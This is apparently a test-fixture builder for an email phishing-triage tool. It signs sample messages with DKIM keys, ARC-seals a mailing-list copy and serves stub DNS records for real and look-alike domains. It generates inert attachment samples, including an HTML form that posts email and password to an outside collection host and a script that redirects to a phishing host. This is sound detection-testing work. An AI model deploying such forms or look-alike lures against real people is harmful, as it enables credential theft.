/**
 * The reported-mail corpus (test/fixtures/mail/triage/*.eml) made ready for triage: DKIM keys are
 * generated for the run, messages are signed with them as their sender's server would, a mailing
 * list modifies and ARC-seals its message, and a stub DNS serves the keys with the SPF and DMARC
 * records of every domain in the corpus. Nothing is signed in the files themselves: a signature made
 * once and kept would prove nothing about the verification the test runs.
 *
 * Directives in a fixture's header block, removed before use:
 *   X-Test-Dkim: <domain>          sign with that domain's key (after any list handling, see below)
 *   X-Test-List: <domain>          the message passes through that domain's mailing list: the list tags
 *                                  the subject, sets Reply-To to itself, appends a footer, re-signs with
 *                                  its own key and ARC-seals
 *   X-Test-Tamper: <old>=><new>    after signing, replace text in the body (the DKIM body hash then fails)
 * Placeholders in bodies: {{file:<kind>}} becomes the base64 of a generated file (see FILES).
 */
import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { dkimSign, sealMessage } from 'mailauth';
import type { DnsResolver, StaffMember } from '../../src/awareness/index.js';

export const FIXTURES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/mail/triage');
export const CLINIC_DOMAINS = ['stmarys-clinic.org', 'medsupply.com', 'labcorp-diagnostics.com'];
export const STAFF: StaffMember[] = [
  { name: 'Anna Keller', email: 'anna.keller@stmarys-clinic.org' },
  { name: 'Thomas Brandt', email: 'thomas.brandt@stmarys-clinic.org' },
  { name: 'Maria Lopez', email: 'm.lopez@stmarys-clinic.org' },
];

interface DomainDns {
  spf?: string;
  dmarc?: string;
  /** Publishes a DKIM key under this selector (the corpus signs with it). */
  selector?: string;
}

/** Every domain the corpus sends from, with the records its owner would publish. */
const ZONE: Record<string, DomainDns> = {
  'stmarys-clinic.org': { spf: 'v=spf1 ip4:198.51.100.0/24 -all', dmarc: 'v=DMARC1; p=reject; rua=mailto:dmarc@stmarys-clinic.org', selector: 's2026' },
  'medsupply.com': { spf: 'v=spf1 ip4:203.0.113.10 ip4:203.0.113.11 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'mail' },
  'labcorp-diagnostics.com': { spf: 'v=spf1 ip4:203.0.113.20 ~all', dmarc: 'v=DMARC1; p=none', selector: 'lab1' },
  'healthtech-weekly.com': { spf: 'v=spf1 include:spf.esp-mailer.net ~all', dmarc: 'v=DMARC1; p=none', selector: 'esp' },
  'spf.esp-mailer.net': { spf: 'v=spf1 ip4:192.0.2.0/26 -all' },
  'esp-mailer.net': { spf: 'v=spf1 ip4:192.0.2.0/26 -all', selector: 'esp' },
  'medinfo-society.org': { spf: 'v=spf1 ip4:192.0.2.100 -all', dmarc: 'v=DMARC1; p=none', selector: 'list' },
  'uniklinik-nord.de': { spf: 'v=spf1 ip4:192.0.2.140 -all', dmarc: 'v=DMARC1; p=quarantine', selector: 'k1' },
  'gmail.com': { spf: 'v=spf1 ip4:209.85.128.0/17 ~all', dmarc: 'v=DMARC1; p=none', selector: '20230601' },
  'outlook.com': { spf: 'v=spf1 ip4:40.92.0.0/15 -all', dmarc: 'v=DMARC1; p=none', selector: 'selector1' },
  'northfield-dental.com': { spf: 'v=spf1 ip4:192.0.2.170 -all' },
  'ehealth-congress.eu': { spf: 'v=spf1 ip4:192.0.2.180 -all', dmarc: 'v=DMARC1; p=none', selector: 'eh' },
  'city-pharmacy.net': {},
  // Look-alikes, registered and configured properly by their owner (authentication passes for them).
  'stmarys-c1inic.org': { spf: 'v=spf1 ip4:45.83.64.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'medsupply-billing.com': { spf: 'v=spf1 ip4:45.83.65.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'medsupply.co': { spf: 'v=spf1 ip4:45.83.66.0/24 -all', selector: 'default' },
  'xn--medsuply-bch.com': { spf: 'v=spf1 ip4:45.83.67.0/24 -all', dmarc: 'v=DMARC1; p=none', selector: 'default' },
  'labcorp-diagnostic.com': { spf: 'v=spf1 ip4:45.83.68.0/24 -all', selector: 'default' },
  // Senders of other phishing: some with records, some without.
  'secure-docs-portal.com': { spf: 'v=spf1 ip4:91.200.12.0/24 ~all' },
  'mail-notify-center.net': { spf: 'v=spf1 ip4:91.200.13.0/24 -all', selector: 'mx' },
  'invoices-docs.net': {},
  'parcel-tracking-update.com': { spf: 'v=spf1 ?all' },
  'cloudfiles-share.info': { spf: 'v=spf1 ip4:91.200.14.0/24 -all' },
};

export interface CorpusMessage {
  file: string;
  raw: Buffer;
}

export interface Expectation {
  /** What the message really is. */
  label: 'phishing' | 'legitimate';
  verdict: 'phishing' | 'suspicious' | 'clean';
  /** Reason codes the triage must give (others may come too). */
  codes: string[];
}

export interface Corpus {
  messages: CorpusMessage[];
  expectations: Record<string, Expectation>;
  resolver: DnsResolver;
  /** The records served, name → type → answers (tests add their own). */
  records: Map<string, Map<string, string[][]>>;
  privateKeys: Map<string, string>;
}

function record(records: Corpus['records'], name: string, type: string, value: string): void {
  if (!records.has(name)) records.set(name, new Map());
  const byType = records.get(name)!;
  byType.set(type, [...(byType.get(type) ?? []), [value]]);
}

/** DNS from a table: unknown names are NXDOMAIN (ENOTFOUND), known names without that type ENODATA. */
export function stubResolver(records: Corpus['records']): DnsResolver {
  return async (name, rrtype) => {
    const byType = records.get(name.toLowerCase());
    const fail = (code: string) => Object.assign(new Error(`${code} ${name}`), { code });
    if (!byType) throw fail('ENOTFOUND');
    const answers = byType.get(rrtype.toUpperCase());
    if (!answers) throw fail('ENODATA');
    return answers;
  };
}

/** A zip archive with stored (uncompressed) entries; `encrypted` sets the encryption flag as a password-protected zip has. */
export function zipOf(entries: Array<{ name: string; data: Buffer }>, encrypted = false): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(encrypted ? 1 : 0, 6);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(encrypted ? 1 : 0, 8);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** An OLE compound file's first bytes, with or without a VBA project's storage name in its directory. */
function oleDocument(withMacros: boolean): Buffer {
  const head = Buffer.alloc(1536);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(head, 0);
  Buffer.from('Root Entry', 'utf16le').copy(head, 512);
  Buffer.from('WordDocument', 'utf16le').copy(head, 640);
  if (withMacros) Buffer.from('_VBA_PROJECT_CUR', 'utf16le').copy(head, 768);
  return head;
}

const PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

/** The generated files fixtures may attach. */
const FILES: Record<string, () => Buffer> = {
  pdf: () => PDF,
  'pdf-2': () => Buffer.concat([PDF, Buffer.from('% second invoice\n')]),
  xlsx: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
    ]),
  docm: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'word/vbaProject.bin', data: oleDocument(true) },
    ]),
  'doc-macro': () => oleDocument(true),
  'doc-plain': () => oleDocument(false),
  'zip-encrypted-js': () => zipOf([{ name: 'Scan_0423.js', data: Buffer.from('x'.repeat(64)) }], true),
  'zip-encrypted-pdf': () => zipOf([{ name: 'Statement.pdf', data: PDF }], true),
  'zip-lnk': () => zipOf([{ name: 'Order-details/Order.pdf.lnk', data: Buffer.from('L\0\0\0') }]),
  'zip-photos': () => zipOf([{ name: 'ward-3-party/photo1.jpg', data: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) }]),
  exe: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]),
  js: () => Buffer.from('var s = WScript.CreateObject("WScript.Shell");\n'),
  iso: () => Buffer.alloc(2048),
  'html-form': () =>
    Buffer.from(
      '<html><body><h3>Document preview</h3><form action="https://collect.docs-preview.top/p" method="post"><input name="email"><input type="password" name="pw"><button>View</button></form></body></html>',
    ),
  'html-plain': () => Buffer.from('<html><body><script>window.location="https://docs-preview.top/"+location.hash</script></body></html>'),
  ics: () =>
    Buffer.from('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Product training\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'),
};

function fileBase64(kind: string): string {
  const make = FILES[kind];
  if (!make) throw new Error(`unknown fixture file kind ${kind}`);
  return (
    make()
      .toString('base64')
      .match(/.{1,76}/g)
      ?.join('\r\n') ?? ''
  );
}

/** Splits the directives (X-Test-*) out of a message's header block. */
function directives(message: string): { message: string; dkim?: string; list?: string; tamper?: [string, string] } {
  const end = message.indexOf('\r\n\r\n');
  const lines = message.slice(0, end).split('\r\n');
  const found: Record<string, string> = {};
  const kept = lines.filter((l) => {
    const m = /^X-Test-(Dkim|List|Tamper):\s*(.*)$/i.exec(l);
    if (m) found[m[1].toLowerCase()] = m[2].trim();
    return !m;
  });
  const tamper = found.tamper?.split('=>') as [string, string] | undefined;
  return { message: kept.join('\r\n') + message.slice(end), dkim: found.dkim, list: found.list, tamper };
}

async function sign(message: string, domain: string, keys: Map<string, string>): Promise<string> {
  const selector = ZONE[domain]?.selector;
  const privateKey = keys.get(domain);
  if (!selector || !privateKey) throw new Error(`no DKIM key for ${domain}`);
  // Each signature's domain, selector and key go in signatureData (mailauth ignores them at the top level).
  const { signatures } = await dkimSign(message, {
    canonicalization: 'relaxed/relaxed',
    signatureData: [{ signingDomain: domain, selector, privateKey }],
  } as Parameters<typeof dkimSign>[1]);
  return signatures + message;
}

/** A list server's handling: tag the subject, add the list's headers and footer, sign, and seal with what it saw. */
async function throughList(message: string, list: string, author: string, keys: Map<string, string>): Promise<string> {
  const end = message.indexOf('\r\n\r\n');
  let head = message.slice(0, end);
  const body = message.slice(end + 4);
  head = head.replace(/^Subject: /im, 'Subject: [MedInfo] ');
  head += `\r\nReply-To: MedInfo discussion <medinfo@lists.${list}>\r\nList-Id: MedInfo discussion <medinfo.lists.${list}>\r\nList-Unsubscribe: <mailto:leave-medinfo@lists.${list}>`;
  const modified = `${head}\r\n\r\n${body}\r\n-- \r\nYou receive this as a member of the MedInfo list (lists.${list}).\r\n`;
  const signed = await sign(modified, list, keys);
  const authResults = `lists.${list}; dkim=pass header.d=${author} header.s=${ZONE[author]?.selector}; spf=pass smtp.mailfrom=${author}; dmarc=pass header.from=${author}`;
  const seal = await sealMessage(signed, {
    signingDomain: list,
    selector: ZONE[list]!.selector!,
    privateKey: keys.get(list)!,
    authResults,
    cv: 'none',
  } as Parameters<typeof sealMessage>[1]);
  return seal.toString() + signed;
}

export async function buildCorpus(): Promise<Corpus> {
  const records: Corpus['records'] = new Map();
  const privateKeys = new Map<string, string>();
  for (const [domain, dns] of Object.entries(ZONE)) {
    records.set(domain, records.get(domain) ?? new Map());
    if (dns.spf) record(records, domain, 'TXT', dns.spf);
    if (dns.dmarc) record(records, `_dmarc.${domain}`, 'TXT', dns.dmarc);
    if (dns.selector) {
      const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      privateKeys.set(domain, privateKey.export({ type: 'pkcs8', format: 'pem' }).toString());
      const p = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
      record(records, `${dns.selector}._domainkey.${domain}`, 'TXT', `v=DKIM1; k=rsa; p=${p}`);
    }
  }
  const expectations = JSON.parse(fs.readFileSync(path.join(FIXTURES, 'expectations.json'), 'utf8')) as Record<string, Expectation>;
  const messages: CorpusMessage[] = [];
  for (const file of fs
    .readdirSync(FIXTURES)
    .filter((f) => f.endsWith('.eml'))
    .sort()) {
    let text = fs.readFileSync(path.join(FIXTURES, file), 'utf8').replace(/\r?\n/g, '\r\n');
    text = text.replace(/\{\{file:([a-z0-9-]+)\}\}/g, (_, kind: string) => fileBase64(kind));
    const d = directives(text);
    let message = d.message;
    if (d.dkim) message = await sign(message, d.dkim, privateKeys);
    if (d.list) message = await throughList(message, d.list, d.dkim ?? '', privateKeys);
    if (d.tamper) message = message.replace(d.tamper[0], d.tamper[1]);
    messages.push({ file, raw: Buffer.from(message, 'utf8') });
  }
  return { messages, expectations, resolver: stubResolver(records), records, privateKeys };
}
